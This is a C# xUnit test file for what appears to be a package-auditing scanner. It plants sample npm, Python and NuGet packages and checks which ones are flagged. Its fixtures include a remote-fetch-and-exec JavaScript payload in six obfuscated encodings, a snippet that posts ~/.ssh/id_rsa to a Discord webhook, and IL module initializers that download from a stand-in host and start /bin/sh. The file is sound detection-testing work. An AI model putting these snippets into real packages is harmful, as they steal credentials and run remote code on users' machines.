using System.Diagnostics;
using System.Reflection;
using System.Reflection.Emit;
using System.Text;
using Xunit;

namespace Astra.Tests.Auditing;

/// <summary>Code that runs when it is called, and assemblies: hidden payloads against ordinary data.</summary>
public sealed class CodeTests : IDisposable
{
    private const string Payload = "const cp=require('child_process');require('https').get('https://collect.example/s',r=>r.on('data',d=>cp.exec(d.toString())))";

    private readonly PlantedPackages _planted = new();

    public void Dispose() => _planted.Dispose();

    public static TheoryData<string> HiddenPayloads { get; } =
    [
        $"eval(Buffer.from('{Convert.ToBase64String(Encoding.UTF8.GetBytes(Payload))}','base64').toString())",
        $"const h='{Convert.ToHexStringLower(Encoding.UTF8.GetBytes(Payload))}';(0,eval)(Buffer.from(h,'hex')+'')",
        $"new Function(String.fromCharCode({string.Join(",", Payload.Select(character => (int)character))}))()",
        $"const p='{string.Concat(Payload.Select(character => $"\\x{(int)character:x2}"))}';const q=unescape(p);eval(q)",
        $"var k=[{string.Join(",", Payload.Select(character => character ^ 77))}];eval(k.map(c=>String.fromCharCode(c^77)).join(''))",
        $"const z=atob('{Convert.ToBase64String(Encoding.UTF8.GetBytes(Payload))[..60]}'+'{Convert.ToBase64String(Encoding.UTF8.GetBytes(Payload))[60..]}');eval(z)",
    ];

    [Theory]
    [MemberData(nameof(HiddenPayloads))]
    public void Code_that_decodes_and_runs_a_payload_is_caught(string code) =>
        _planted.InspectNpm(("package.json", """{"main":"index.js"}"""), ("index.js", "module.exports=function(){}\n" + code + "\n")).IsCaught();

    [Fact]
    public void A_python_module_that_runs_a_compressed_payload_is_caught() =>
        _planted.InspectPython(("planted/__init__.py", "import zlib,base64\nexec(zlib.decompress(base64.b64decode(b'eJxLzC0oKlZITi0qS8wpTVVIzs8rSc0rAQBMrAc8')))\n")).IsCaughtBy("decodes-and-runs");

    [Fact]
    public void A_program_inside_a_text_is_caught()
    {
        byte[] program = [.. "\u007fELF\u0002\u0001\u0001"u8, .. Enumerable.Range(0, 900).Select(number => (byte)(number * 31))];
        _planted.InspectPython(("planted/data.py", $"BLOB = '{Convert.ToBase64String(program)}'\n")).IsCaughtBy("encoded-executable");
    }

    [Fact]
    public void Code_that_reads_secrets_and_names_a_drop_address_is_caught() =>
        _planted.InspectNpm(("package.json", "{}"), ("lib/telemetry.js", "const fs=require('fs');fetch('https://discord.com/api/webhooks/1/x',{method:'POST',body:fs.readFileSync(process.env.HOME+'/.ssh/id_rsa')})")).IsCaughtBy("code-collects-secrets");

    [Fact]
    public void Pictures_certificates_tables_and_source_maps_in_text_are_unremarkable()
    {
        var noise = new byte[6000];
        new Random(1).NextBytes(noise);
        byte[] picture = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. noise];
        _planted.InspectNpm(
            ("package.json", "{}"),
            ("icon.js", $"export const icon='data:image/png;base64,{Convert.ToBase64String(picture)}'"),
            ("cert.js", $"exports.ca=`-----BEGIN CERTIFICATE-----\n{Convert.ToBase64String(noise)}\n-----END CERTIFICATE-----`"),
            ("table.js", "module.exports=[" + string.Join(",", Enumerable.Range(0, 20_000).Select(number => number * 7919 % 65536)) + "]"),
            ("min.js", "!function(e,t){" + string.Concat(Enumerable.Range(0, 2000).Select(number => $"e[{number}]=function(t){{return t.exec(\"a{number}\")&&e.test(t)}};")) + "}(this)\n//# sourceMappingURL=data:application/json;base64," + Convert.ToBase64String(noise))).IsUnremarkable();
    }

    [Fact]
    public void A_client_library_that_uses_the_network_and_its_credentials_file_is_unremarkable() =>
        _planted.InspectPython(("planted/__init__.py", "import os, base64, urllib.request\nPATH = os.path.expanduser('~/.aws/credentials')\ndef call(u):\n    r = urllib.request.Request(u, headers={'Authorization': base64.b64encode(open(PATH,'rb').read())})\n    return urllib.request.urlopen(r)\n")).IsUnremarkable();

    [Fact]
    public void An_assembly_that_downloads_and_starts_when_loaded_is_caught()
    {
        Plant(initializer => 
        {
            initializer.Emit(OpCodes.Newobj, typeof(HttpClient).GetConstructor([])!);
            initializer.Emit(OpCodes.Ldstr, "https://collect.example/x");
            initializer.Emit(OpCodes.Callvirt, typeof(HttpClient).GetMethod(nameof(HttpClient.GetStringAsync), [typeof(string)])!);
            initializer.Emit(OpCodes.Pop);
            initializer.Emit(OpCodes.Ldstr, "/bin/sh");
            initializer.Emit(OpCodes.Call, typeof(Process).GetMethod(nameof(Process.Start), [typeof(string)])!);
            initializer.Emit(OpCodes.Pop);
        });
        _planted.InspectNuGetFolder().IsCaughtBy("module-initializer-attacks");
    }

    [Fact]
    public void An_assembly_that_loads_decoded_code_when_loaded_is_caught()
    {
        Plant(initializer =>
        {
            initializer.Emit(OpCodes.Ldstr, "AAAA");
            initializer.Emit(OpCodes.Call, typeof(Convert).GetMethod(nameof(Convert.FromBase64String))!);
            initializer.Emit(OpCodes.Call, typeof(Assembly).GetMethod(nameof(Assembly.Load), [typeof(byte[])])!);
            initializer.Emit(OpCodes.Pop);
        });
        _planted.InspectNuGetFolder().IsCaughtBy("module-initializer-attacks");
    }

    [Fact]
    public void An_assembly_that_starts_a_process_when_loaded_is_caught()
    {
        Plant(initializer =>
        {
            initializer.Emit(OpCodes.Ldstr, "notepad");
            initializer.Emit(OpCodes.Call, typeof(Process).GetMethod(nameof(Process.Start), [typeof(string)])!);
            initializer.Emit(OpCodes.Pop);
        });
        _planted.InspectNuGetFolder().IsCaughtBy("module-initializer-acts");
    }

    [Fact]
    public void An_assembly_that_prepares_itself_when_loaded_is_unremarkable()
    {
        Plant(initializer =>
        {
            initializer.Emit(OpCodes.Ldstr, "Planted");
            initializer.Emit(OpCodes.Ldc_I4_1);
            initializer.Emit(OpCodes.Call, typeof(AppContext).GetMethod(nameof(AppContext.SetSwitch))!);
        });
        _planted.InspectNuGetFolder().IsUnremarkable();
    }

    [Fact]
    public void Network_and_process_references_alone_are_information()
    {
        Plant(initializer: null, ordinary: code =>
        {
            code.Emit(OpCodes.Newobj, typeof(HttpClient).GetConstructor([])!);
            code.Emit(OpCodes.Pop);
            code.Emit(OpCodes.Ldstr, "git");
            code.Emit(OpCodes.Call, typeof(Process).GetMethod(nameof(Process.Start), [typeof(string)])!);
            code.Emit(OpCodes.Pop);
        });
        var answer = _planted.InspectNuGetFolder();
        answer.IsUnremarkable();
        answer.IsCaughtBy("can-network");
        answer.IsCaughtBy("can-process");
    }

    private void Plant(Action<ILGenerator>? initializer, Action<ILGenerator>? ordinary = null)
    {
        var assembly = new PersistedAssemblyBuilder(new AssemblyName("Planted"), typeof(object).Assembly);
        var module = assembly.DefineDynamicModule("Planted");
        if (initializer is not null)
        {
            var method = module.DefineGlobalMethod(".cctor", MethodAttributes.Static | MethodAttributes.Private | MethodAttributes.SpecialName | MethodAttributes.RTSpecialName, typeof(void), []);
            initializer(method.GetILGenerator());
            method.GetILGenerator().Emit(OpCodes.Ret);
            module.CreateGlobalFunctions();
        }
        var type = module.DefineType("Ordinary", TypeAttributes.Public);
        var run = type.DefineMethod("Run", MethodAttributes.Public | MethodAttributes.Static).GetILGenerator();
        ordinary?.Invoke(run);
        run.Emit(OpCodes.Ret);
        type.CreateType();
        using var image = new MemoryStream();
        assembly.Save(image);
        _planted.PlantNuGet("Planted", "1.0.0", ("lib/net10.0/Planted.dll", image.ToArray()));
    }
}
